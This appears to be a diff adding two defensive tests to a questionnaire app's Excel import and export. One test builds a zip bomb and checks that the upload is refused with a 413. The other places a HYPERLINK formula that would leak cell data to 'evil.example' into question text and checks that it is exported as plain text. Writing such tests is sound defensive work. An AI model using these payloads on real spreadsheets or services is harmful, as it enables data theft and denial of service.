@@ -518,3 +518,63 @@ def test_the_template_says_which_questions_are_scored(
     assert cells["DD6"].startswith("number\nScored (theme: ")
     for context in ("R1", "EX1", "EX5", "P3"):
         assert cells[context].endswith("\nNot scored: context for the analyst and the reports")
+
+
+def test_a_workbook_that_unpacks_to_gigabytes_is_413_before_it_is_read(
+    client: TestClient, tenant_a: Any, bundled: Questionnaire, start_assessment: Start
+) -> None:
+    """A real template with one member padded to 60 MB of zeros: it compresses to a few
+    tens of kilobytes, and openpyxl would hold it all in memory (the security review grew
+    the server to 2.4 GB with a 1 MB file). Nothing is imported and the version stays."""
+    import zipfile
+
+    draft, etag = start_assessment()
+    before = read(client, tenant_a.investor, draft["id"])
+    workbook = template(client, tenant_a.investor, bundled.version)
+    fill(workbook, "P3", Answer="Would be imported")
+    packed = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(saved_bytes(workbook))) as original,
+        zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as bomb,
+    ):
+        for member in original.infolist():
+            bomb.writestr(member, original.read(member))
+        bomb.writestr("xl/padding.bin", b"\0" * (60 * 1024 * 1024))
+    assert len(packed.getvalue()) < 1024 * 1024
+
+    response = import_xlsx(client, tenant_a.investor, draft["id"], packed.getvalue(), etag)
+    assert response.status_code == 413, response.text
+    [error] = response.json()["errors"]
+    assert error["path"] == "file" and "unpacks to" in error["message"]
+    assert read(client, tenant_a.investor, draft["id"]) == before
+
+
+def test_question_text_that_looks_like_a_formula_is_written_as_text(
+    client: TestClient, tenant_a: Any, tenant_b: Any, bundled: Questionnaire, settings: Any
+) -> None:
+    """Any analyst may publish a questionnaire version, and every organisation downloads its
+    template: text starting with '=' must not become a live formula in someone's sheet."""
+    formula = '=HYPERLINK("https://evil.example/?leak="&J2,"Open the guidance")'
+    text = (settings.questionnaires_dir / "stap-surveillance-v1.yaml").read_text()
+    lines = text.replace(f"\nversion: {bundled.version}\n", "\nversion: 1.1.0\n", 1).split("\n")
+    # P1's folded text block becomes one quoted line holding the formula.
+    start = lines.index("  - id: P1") + 3
+    assert lines[start] == "    text: >-"
+    end = start + 1
+    while lines[end].startswith("      "):
+        end += 1
+    lines[start:end] = [f"    text: '{formula}'"]
+    published = client.post(
+        "/api/v1/questionnaires",
+        files={"file": ("q.yaml", "\n".join(lines).encode(), "application/x-yaml")},
+        headers=tenant_a.analyst,
+    )
+    assert published.status_code == 201, published.text
+
+    workbook = template(client, tenant_b.investor, "1.1.0")
+    sheet = workbook["Answers"]
+    [cell] = [row[2] for row in sheet.iter_rows(min_row=2) if row[0].value == "P1"]
+    assert (cell.value, cell.data_type) == (formula, "s")
+    assert all(
+        c.data_type != "f" for ws in workbook.worksheets for row in ws.iter_rows() for c in row
+    )
